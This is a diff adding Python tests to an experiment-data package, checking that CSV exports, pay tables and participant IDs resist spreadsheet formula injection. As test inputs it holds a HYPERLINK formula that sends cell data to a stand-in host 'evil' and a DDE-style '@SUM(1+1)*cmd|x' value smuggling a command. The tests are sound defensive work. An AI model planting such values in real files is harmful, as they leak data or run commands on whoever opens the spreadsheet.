@@ -1,9 +1,10 @@
 """From the store and from raw logs to the tables of the analysis."""
 
+import csv
 import json
 import re
 import uuid
-from dataclasses import fields
+from dataclasses import fields, replace
 from pathlib import Path
 from typing import Any
 
@@ -24,6 +25,7 @@ from contstim.experiment.schema import open_data, writing
 from contstim.experiment.store import Store
 from contstim.experiment.study import Study, read_study
 from contstim.experiment.upkeep import Bonus, pay_table, release_sessions, replacement_table
+from contstim.tables import read_table
 
 
 @pytest.fixture
@@ -418,6 +420,55 @@ def test_who_is_to_be_asked_before_pay(study: Study) -> None:
     assert table["pay"].tolist() == ["review"] * 3
     assert table["reason"][0] == "6 of 6 trials answered, 0 of 2 attention checks right"
     assert table["reason"][2] == "6 of 6 trials answered, but the page was left before the end"
+
+
+FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
+
+
+def test_no_cell_of_the_export_or_of_pay_is_computed(study: Study, tmp_path: Path) -> None:
+    question = '[[questions]]\nname = "free"\nprompt = "Anything?"\nrows = 3\nwhen = "after"\n'
+    study = add(study, RECRUITER + question)
+    with Store(study) as store:
+        asked = replace(opening(study, "GOOD"), parameters={"STUDY_ID": "@SUM(1+1)*cmd|x"})
+        token, _, _ = store.open(asked).result()
+        detail = json.dumps({"responses": {"free": f"{FORMULA}\0"}, "rt_ms": 5})
+        assert store.add_events(token, [event("responses", detail=detail)]).result().acknowledged
+    out, pay = tmp_path / "out", tmp_path / "pay.csv"
+    assert main(["experiment", "export", str(study.folder), "--out", str(out)]) == 0
+    assert main(["experiment", "pay", str(study.folder), "--out", str(pay)]) == 0
+    tables = [*out.rglob("*.csv"), pay]
+    assert any("HYPERLINK" in path.read_text("utf-8") for path in tables)
+    for path in tables:
+        text = path.read_text("utf-8")
+        assert "\0" not in text
+        with path.open(encoding="utf-8", newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert not [cell for cell in cells if re.match(r"[=@]|[+-](?!\d)", cell)]
+    assert read_table(out / "responses.csv")["response"].tolist() == [f"{FORMULA}\0"]
+
+
+def test_ids_hold_what_a_recruiter_gives(study: Study) -> None:
+    study = add(study, RECRUITER)
+    with Store(study) as store:
+        for who in (FORMULA, "{{%PROLIFIC_PID%}}", "a@b.org", "x" * 129):
+            with pytest.raises(InputError, match="which no recruiter gives"):
+                store.open(opening(study, who)).result()
+        store.open(opening(study, "5f00_-Z")).result()
+    study = edit(study, 'parameters = ["STUDY_ID"]', 'id_signs = "@."')
+    with Store(study) as store:
+        store.open(opening(study, "a@b.org")).result()
+    with pytest.raises(InputError, match=r"recruiter.id_signs is 'a b'; give up to 32 signs"):
+        edit(study, 'id_signs = "@."', 'id_signs = "a b"')
+
+
+def test_an_id_in_a_log_that_none_gives_is_left_out_and_noted(study: Study, tmp_path: Path) -> None:
+    study = add(study, RECRUITER)
+    lines = log(study, 1, "session-1")
+    lines[0]["consent"]["recruiter"] = {"participant": FORMULA, "jatos_result": "7"}
+    found = import_logs(study, [write(tmp_path / "x.jsonl", lines)])
+    assert found.added == 6
+    assert "is left out, which holds other signs than ids may" in found.notes[0]
+    assert recruiter_ids(study)["recruiter_id"].tolist() == [None]
 
 
 def test_replacement_frees_the_assignments(
